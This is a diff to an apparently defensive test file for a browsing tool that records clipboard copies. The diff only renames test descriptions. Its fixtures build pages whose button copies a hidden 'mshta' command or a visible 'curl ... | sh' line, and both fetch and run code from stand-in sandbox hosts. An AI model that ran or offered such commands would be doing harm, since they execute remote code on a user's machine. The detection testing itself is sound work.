@@ -41,7 +41,7 @@ describe('fields that a person cannot see, or that hold text already', { skip, t
     `<!doctype html><title>Check</title><h1>Check</h1><button id="b">Go on</button>${field}<script>document.getElementById('b').onclick = () => { document.getElementById('h').select(); document.execCommand('copy') }</script>`
   const copiesOn = async (html: string) => (await browsePages({ '/': html }, { limits: LIMITS })).browsing.copies
 
-  it('keep it, so that what is copied from them is the page’s own; a person did not see it', async () => {
+  it('keep their text, which is copied without being shown', async () => {
     const [copied] = await copiesOn(
       page(
         '<textarea id="h" style="position:absolute;left:-9999px">mshta https://drop.sandbox.test/v # check 7391</textarea>',
@@ -51,7 +51,7 @@ describe('fields that a person cannot see, or that hold text already', { skip, t
     assert.equal(copied?.shown, false)
   })
 
-  it('show what is copied where a person sees them', async () => {
+  it('show what is copied where a person sees the field', async () => {
     const [copied] = await copiesOn(
       page(
         '<textarea id="h" rows="3" cols="60" readonly>curl -fsSL https://tool.sandbox.test/install.sh | sh</textarea>',
